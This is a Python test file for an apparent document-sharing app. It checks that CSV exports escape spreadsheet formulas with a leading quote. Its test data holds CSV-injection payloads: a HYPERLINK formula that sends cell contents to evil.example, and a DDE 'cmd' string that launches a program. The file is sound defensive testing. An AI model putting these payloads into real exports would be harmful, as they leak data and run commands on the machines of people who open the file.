"""Every CSV export goes through one writer that neutralises spreadsheet formulas (OWASP's
advice: a cell starting with = + - @, tab or carriage return gets a leading quote)."""

from __future__ import annotations

import csv
import io

import pytest

from sharehub.core.csvfile import csv_text, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("value", FORMULAS, ids=repr)
def test_formula_cells_get_a_leading_quote(value):
    assert safe_cell(value) == "'" + value
    rows = read(csv_text(["name"], [[value]]))
    assert rows == [["name"], ["'" + value]]


@pytest.mark.parametrize(
    "value",
    ["电感耦合等离子体发射光谱仪", "a=b", "", "-12.50", "+3", "-7", 12, -5, 1.5, None, "x-@"],
    ids=repr,
)
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_catalogue_csv_escapes_listing_and_lab_names(client, db, make_org, make_listing):
    from sharehub.accounts.models import OrgKind

    lab = make_org(kind=OrgKind.LAB, name="@SUM(A1:A2) 实验室", name_en="=1+2 Lab")
    make_listing(lab, name=FORMULAS[1], name_en=FORMULAS[0], description="-2+3+cmd|' /C calc'!A0")
    rows = read(client.get("/catalog/export.csv").get_data(as_text=True))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(
        cell.startswith("-") and not cell[1:].replace(".", "").isdigit() for cell in cells
    )
